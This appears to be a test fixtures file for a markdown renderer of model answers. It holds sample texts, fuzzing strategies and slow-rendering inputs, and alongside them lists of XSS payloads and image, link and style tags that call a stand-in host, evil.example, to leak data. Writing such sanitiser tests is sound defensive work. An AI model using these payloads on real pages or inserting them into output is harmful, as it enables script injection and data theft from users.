"""Texts to test with: long answers as models write them, and ways to cut them."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from itertools import cycle
from pathlib import Path

import pytest
from hypothesis import strategies as st

from parley.markdown import highlighting

CORPORA = Path(__file__).parents[3] / "shared" / "corpora"

LISTS = """\
Sure! Here is how to deploy the app, step by step:

1. **Build** the image:
   - use a *multi-stage* build
   - pin the base image

     ```dockerfile
     FROM python:3.12-slim

     COPY . /app
     ```

   - scan it with `trivy`
2. **Push** it to the registry

   A second paragraph of the item.

3. **Deploy**
   1. apply the migrations
      * first on staging
      * then in production
   2. roll out
10. Celebrate


- [ ] not done
- [x] done

* another list
+ and another

Good luck!
"""

TABLES = """\
## Comparison

| Database   | Since | Licence    | Notes              |
|:-----------|------:|:----------:|--------------------|
| SQLite     |  2000 | public     | one file, `WAL`    |
| PostgreSQL |  1996 | PostgreSQL | **many** writers   |
| MySQL      |  1995 | GPL-2.0    | a \\| b, ~~MyISAM~~ |

Which one fits depends on *writers*, not on size.

> A quote about databases
> over two lines, and a list in it:
>
> - one
> - two
>
>   ```sql
>   SELECT 1;
>   ```
lazy continuation

---

Short one:

a | b
--|--
1 | 2
3

Setext heading
==============

and one more
------------
"""

CODE = """\
Here is the fix for the race in `cache.py`:

```python
class Cache:
    \"\"\"A dict with a lock & a <limit>.\"\"\"

    def get(self, key: str) -> int | None:

        with self._lock:
            return self._items.get(key)  # no `KeyError`


```

And the test, in shell:

~~~bash
pytest -k "cache and not slow" && echo '```' > /dev/null
~~~

    an indented block

    with an empty line

```
no language & <b>no</b> bold
```

The diff:

```diff
- old
+ new
```

```unknown-language
x
```

<details>
<summary>HTML of the *answer*</summary>

text with **bold** in it

</details>

Done, see https://docs.python.org/3/library/threading.html#lock-objects for `Lock`.
"""

CJK = """\
# 数据库索引的工作原理

**索引（index）**是一种数据结构，它能*加快*查询速度。常见的类型有：

1. **B+ 树索引**：适合范围查询。
2. **哈希索引**：只适合`等值`查询。

日本語でも説明します。**「索引」**は本の索引と同じです。

| 种类 | 复杂度 |
|------|--------|
| B+ 树 | O(log n) |
| 哈希 | O(1) |

한국어: **색인**은 *빠른* 검색을 돕습니다. 👍

```sql
CREATE INDEX idx_名前 ON 人 (名前); -- 索引
```

结论：**不要**给每一列都建索引。
"""

ARABIC = """\
# ما هو خادم الويب؟

**خادم الويب** هو برنامج يستقبل طلبات *HTTP* ويرسل الردود.

- الأول: `nginx`
- الثاني: **أباتشي**
  - فرعي ١
  - فرعي ٢

> ملاحظة: العربية تُكتب من اليمين إلى اليسار، أما الأرقام 123 فلا.

עברית גם כן: **שלום** עולם.

| الاسم | السنة |
|:-----:|------:|
| nginx | 2004 |
"""

EMOJI = """\
🎉 **Welcome!** 🎉 Here's your plan for 🇯🇵:

- 🗼 Tokyo: *three* days
- ⛩️ Kyoto: `2` days 👨‍👩‍👧‍👦
- 🍜🍣 everywhere

𝒳 is a letter outside the BMP, 𠮷野家 too, and é is two code points.

### 💡 Tips

1. 🚄 Buy a **JR Pass** 💴
2. 📱 Get a SIM

😀😃😄😁😆😅 --- "smart" & <angle> 'quotes' \\*escaped\\* &amp; &copy; 🏁
"""

ANSWERS = {"lists": LISTS, "tables": TABLES, "code": CODE, "cjk": CJK, "arabic": ARABIC, "emoji": EMOJI}

MARKDOWN = st.lists(
    st.one_of(
        st.sampled_from(
            [*"#*_`~>|-+=[]()!<&:.\\ \n\t", "\n\n", "```", "**", "- ", "1. ", "> ", "    ", "| a | b |\n|--|--|\n"]
        ),
        st.sampled_from(["word", "https://a.example/b", "<div>", "😀", "漢字", "שלום", "é", "\u2028", "[x](y)"]),
        st.text(max_size=5),
    ),
    max_size=60,
).map("".join)
"""Text with much syntax in it."""

SIZES = st.lists(st.integers(1, 60), min_size=1, max_size=20)


@contextmanager
def unhurried() -> Iterator[None]:
    """Let all code have its colours, however long this machine takes for them."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(highlighting, "HIGHLIGHTING_TIME", 60)
        yield


def growing(text: str, sizes: list[int]):
    """The text as it grows by chunks of these sizes, again and again."""
    end = 0
    for size in cycle(sizes):
        end += size
        yield text[:end]
        if end >= len(text):
            return


def corpus(name: str) -> list:
    """A shared corpus, or nothing where there is none."""
    path = CORPORA / name
    return json.loads(path.read_text()) if path.exists() else []


PAYLOADS = [payload["payload"] for payload in corpus("xss.json")] + [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>*{display:none}</style>",
    "<div data-parley-controller=evil data-controller=evil data-turbo-stream id=composer style=position:fixed>x</div>",
    "<turbo-stream action=remove target=composer></turbo-stream>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "[x](#composer)",
    "![x](https://evil.example/pixel)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://a.example/"onerror="alert(1))',
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover='alert(1)'>",
    '[x](https://a.example "title\' onclick=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    '```py" onclick="alert(1)\nx\n```',
    "| <script> |\n|---|\n| <img src=x> |",
    "[^<script>]\n\n[^<script>]: javascript:alert(1)",
    "x[^a]\n\n[^a]: <img src=x>",
    '<a href="https://a.example" onclick="alert(1)">x</a>',
    "<!-- --><script>alert(1)</script>",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\text{<script>alert(1)</script>}$$",
    "\\(\\style{position:fixed}{x}\\)",
    "$`<img src=x onerror=alert(1)>`$",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "\0<script>\0alert(1)</script>",
]
"""Texts that try to act, with those of the shared corpus where there is one."""

THIEF = "https://evil.example/?"
EXFILTRATION = [
    f"<img src={THIEF}1>",
    f"<img srcset='{THIEF}2 2x'>",
    f"<picture><source srcset={THIEF}3><img></picture>",
    f"<image src={THIEF}4>",
    f"<video poster={THIEF}5>",
    f"<video src={THIEF}6 autoplay>",
    f"<audio src={THIEF}7 autoplay>",
    f"<video><track default src={THIEF}8></video>",
    f"<iframe src={THIEF}9></iframe>",
    f"<iframe srcdoc='<img src={THIEF}10>'></iframe>",
    f"<embed src={THIEF}11>",
    f"<object data={THIEF}12></object>",
    f"<input type=image src={THIEF}13>",
    f"<link rel=stylesheet href={THIEF}14>",
    f"<link rel=prefetch href={THIEF}15>",
    f"<link rel=preload as=image href={THIEF}16>",
    f"<link rel=dns-prefetch href={THIEF}17>",
    f"<link rel=preconnect href={THIEF}18>",
    f"<link rel=icon href={THIEF}19>",
    f"<link rel=manifest href={THIEF}20>",
    f"<meta http-equiv=refresh content='0;url={THIEF}21'>",
    f"<base href={THIEF}22>",
    f"<style>@import '{THIEF}23';</style>",
    f"<style>*{{background:url({THIEF}24)}}</style>",
    f"<style>@font-face{{font-family:a;src:url({THIEF}25)}}*{{font-family:a}}</style>",
    f"<p style='background:url({THIEF}26)'>",
    f"<p style='list-style-image:image-set(\"{THIEF}27\" 1x)'>",
    f"<table background={THIEF}28>",
    f"<body background={THIEF}29>",
    f"<svg><image href={THIEF}30 /></svg>",
    f"<svg><use href={THIEF}31#a /></svg>",
    f"<svg><feImage href={THIEF}32 /></svg>",
    f"<svg><style>@import '{THIEF}33'</style></svg>",
    f"<math><mtext><img src={THIEF}34></mtext></math>",
    f"<a ping={THIEF}35 href=/>x</a>",
    f"<form action={THIEF}36><button autofocus>x</button></form>",
    f"<script src={THIEF}37></script>",
    f"<script>new Image().src='{THIEF}38'</script>",
    f"<script type=module>import '{THIEF}39'</script>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{THIEF}40"]}}]}}</script>',
    f"![x]({THIEF}41)",
    f"![x][1]\n\n[1]: {THIEF}42",
    f"<turbo-frame id=a src={THIEF}43></turbo-frame>",
]
"""Texts that would ask another host for something, if they were a part of a page."""

SLOW = {
    "open brackets and letters": "[a",
    "maths": None,
    "openers": "[ a_ ",
    "emphasis": "*a **b _",
    "backticks": "`a``",
    "brackets": "[",
    "images": "![",
    "links": "[a](<b",
    "links and images": "](!![",
    "quotes": ">",
    "lists in a line": "- ",
    "quotes and lists": "> - ",
    "nested lists": None,
    "pipes": "|",
    "a wide table": None,
    "references": None,
    "footnotes": None,
    "one footnote": "[^1]",
    "tags": "<a ",
    "comments": "<!-- a ",
    "ampersands": "&",
    "emphasis and ampersands": None,
    "pipes and ampersands": None,
    "addresses": "http://a",
    "hosts": "www.",
    "mail": "a@",
    "strikes": "~~a ",
    "fences": "```\n",
    "headings": "# a\n",
    "rules": "a\n=\n",
    "one word": "a",
    "spaces": " ",
    "empty lines": "\n",
    "tabs": "\t",
    "backslashes": "\\",
    "Chinese": "汉**字**",
}


def slow(name, size):
    """A text of about this many characters that some renderers take very long for."""
    if name == "maths":
        return "\\(" * (size // 2) + "\\)"
    if name == "emphasis and ampersands":
        return "*a* " + "&" * size
    if name == "pipes and ampersands":
        return "|" * 201 + "&" * size
    if name == "nested lists":
        return "".join(" " * 2 * i + "- a\n" for i in range(int(size**0.5)))
    if name == "a wide table":
        return "|a" * (size // 4) + "\n" + "|-" * (size // 4) + "\n" + "|\n" * 200
    if name == "references":
        return "".join(f"[{i}]: /u\n" for i in range(size // 20)) + "[1]" * (size // 6)
    if name == "footnotes":
        return "".join(f"x[^{i}]\n\n[^{i}]: y\n\n" for i in range(size // 25))
    return SLOW[name] * (size // len(SLOW[name])) + ("\n\n[^1]: x" if name == "one footnote" else "")
